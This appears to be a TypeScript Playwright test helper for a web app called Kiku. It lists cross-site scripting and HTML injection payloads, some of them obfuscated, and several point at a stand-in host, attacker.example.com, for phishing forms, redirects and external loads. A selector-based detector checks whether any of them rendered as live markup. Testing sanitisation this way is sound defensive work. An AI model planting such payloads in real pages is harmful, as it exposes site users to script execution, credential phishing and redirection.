import type { Page } from 'playwright-core'
import { MARKER } from './watch-page.ts'

const RUN = `window.${MARKER}=1`
export const ATTACKER = 'https://attacker.example.com'

/** What an attacker writes where a page may show it. */
export const MARKUP: readonly string[] = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `<svg onload="${RUN}"><script>alert(1)</script></svg>`,
  `<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">here</a>`,
  `[click](javascript:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[page](data:text/html,<script>${RUN}</script>)`,
  `![picture](${ATTACKER}/picture.png)`,
  `<form action="${ATTACKER}"><button>Sign in</button></form>`,
  `<link rel="stylesheet" href="${ATTACKER}/style.css"><style>* { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${ATTACKER}"><base href="${ATTACKER}">`,
  `" autofocus onfocus="${RUN}" x="`,
  `\u202e<details open ontoggle="${RUN}">\u2066`,
]

/** Elements, attributes and addresses that no page of Kiku has, with which markup would have become more than text. */
export function findStrangers(page: Page): Promise<readonly string[]> {
  const strangers = [
    'body :is(img, script, iframe, object, embed, link, style, meta, base, video, audio)',
    'main form:not(.composer, .feedback-form, .address-form)',
    '[onerror], [onload], [onfocus], [onclick], [ontoggle]',
    `[href^="javascript" i], [href^="data:" i]:not(link), [href*="attacker"]`,
  ]
  return page.evaluate<string[]>(
    `[...document.querySelectorAll(${JSON.stringify(strangers.join())})].map((element) => element.outerHTML)`,
  )
}
